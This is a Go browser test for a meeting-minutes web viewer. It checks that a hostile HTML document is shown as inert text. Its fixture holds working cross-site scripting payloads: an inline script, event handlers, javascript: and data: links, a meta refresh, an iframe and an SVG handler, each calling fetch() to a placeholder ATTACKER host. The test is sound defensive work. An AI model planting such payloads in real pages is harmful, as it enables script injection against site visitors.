package serve

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	cdpage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"minutes/parse"
	"minutes/pipeline"
)

// hostileHTML is minutes written to attack the view: an inline script, event
// handlers, javascript: and data: links, a meta refresh, an iframe and an
// SVG with a handler. Each, if it ran, would call the attacker's server
// (ATTACKER) or open a dialog.
const hostileHTML = `<!doctype html>
<html><head><title>Minutes of the Hostile Board meeting</title>
<meta http-equiv="refresh" content="0; url=ATTACKER/refresh">
<script>window.pwned = 1; fetch("ATTACKER/script"); alert("script");</script>
</head>
<body onload="fetch('ATTACKER/onload')">
<h1>Minutes of the 3rd Hostile Board meeting</h1>
<p>Date: 12 March 2019. Venue: Vienna, Austria.</p>
<h2>Present</h2>
<ul><li>Mallory Evil (Evil Corp) <img src="x" onerror="fetch('ATTACKER/onerror'); alert('img')"></li>
<li>Alice Good (Good Org)</li></ul>
<h2>1. Welcome</h2>
<p>The chair welcomed <a href="javascript:fetch('ATTACKER/jslink');alert('link')">everyone</a> to the meeting on hostile input.</p>
<h2>2. Links</h2>
<p>See <a href="data:text/html,&lt;script&gt;alert('data')&lt;/script&gt;">the data link</a>,
<a href="JaVaScRiPt:alert('mixed case')">another</a> and <a href="/meetings/1/source">a relative one</a>.</p>
<p onmouseover="fetch('ATTACKER/hover')">The &lt;script&gt;alert("text")&lt;/script&gt; in the text stays text.</p>
<svg onload="fetch('ATTACKER/svg')"><circle r="5"/></svg>
<iframe src="ATTACKER/iframe"></iframe>
<h2>3. Actions</h2>
<p>ACTION 3.1: Mallory Evil to stop <b onclick="alert('b')">attacking</b> the view.</p>
</body></html>
`

// TestHostileDocumentInBrowser imports the hostile document through the
// whole pipeline and opens every page of the view that shows it — search
// results, the meeting, its text, its original, the people, organisations
// and actions — in a real browser, checking that nothing of it runs: no
// script, handler, refresh or frame calls the attacker's server, no dialog
// opens, no page navigates away, and no javascript: or data: link is live.
func TestHostileDocumentInBrowser(t *testing.T) {
	b := newBrowser(t)
	var mu sync.Mutex
	var calls []string
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		calls = append(calls, r.URL.Path)
		mu.Unlock()
	}))
	defer attacker.Close()

	doc := filepath.Join(t.TempDir(), "hostile.html")
	if err := os.WriteFile(doc, []byte(strings.ReplaceAll(hostileHTML, "ATTACKER", attacker.URL)), 0o644); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "m.db")
	st := openStore(t, path)
	res, err := pipeline.ProcessFile(doc, parse.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := st.Import(res.Entry()); err != nil {
		t.Fatal(err)
	}
	st.Close()
	s, _ := serveFile(t, path)
	site := httptest.NewServer(s)
	defer site.Close()

	var dialogs []string
	err = chromedp.Listen(b.ctx, func(ev any) {
		if d, ok := ev.(*cdpage.EventJavascriptDialogOpening); ok {
			mu.Lock()
			dialogs = append(dialogs, d.Message)
			mu.Unlock()
			go chromedp.Call(b.ctx, cdpage.HandleJavaScriptDialog, cdpage.HandleJavaScriptDialogParams{Accept: false})
		}
	})
	if err != nil {
		t.Fatal(err)
	}

	pages := []string{"/", "/search?q=welcome", "/search?q=hostile", "/search?q=attacking", "/search?q=mallory", "/search?q=evil",
		"/meetings", "/meetings/1", "/meetings/1/text", "/meetings/1/source", "/people", "/organisations", "/actions?status=any"}
	for _, p := range pages {
		url := site.URL + p
		b.do("open "+p, chromedp.Navigate(url), chromedp.Sleep(700*time.Millisecond))
		loc, err := chromedp.Run(b.ctx, chromedp.Location())
		if err != nil {
			t.Fatal(err)
		}
		if loc != url {
			t.Errorf("%s navigated to %s", p, loc)
		}
		state, err := chromedp.Run(b.ctx, chromedp.Evaluate[[]int](`[
			typeof window.pwned === "undefined" ? 0 : 1,
			document.scripts.length,
			document.querySelectorAll('a[href^="javascript:" i], a[href^="data:" i], [onload], [onerror], [onclick], [onmouseover], iframe, meta[http-equiv]').length]`))
		if err != nil {
			t.Fatal(err)
		}
		if state[0]+state[1]+state[2] != 0 {
			t.Errorf("%s: pwned %d, %d scripts, %d live links, handlers, frames or refreshes", p, state[0], state[1], state[2])
		}
	}
	b.do("open the meeting", chromedp.Navigate(site.URL+"/meetings/1"))
	b.screenshot("hostile-meeting.png")
	// The document is shown, its markup as text. (The extractor keeps
	// only http links; TestPages checks that a javascript: or data: link
	// in a record is shown as text, not as a link.)
	if main := b.text("main"); !strings.Contains(main, "Hostile Board") || !strings.Contains(main, `<script>alert("text")</script>`) {
		t.Errorf("the meeting page does not show the document:\n%s", main)
	}
	time.Sleep(time.Second) // a late refresh or handler would call now
	mu.Lock()
	defer mu.Unlock()
	if len(calls) > 0 || len(dialogs) > 0 {
		t.Errorf("the hostile document ran: it called the attacker at %v and opened dialogs %q", calls, dialogs)
	}
}
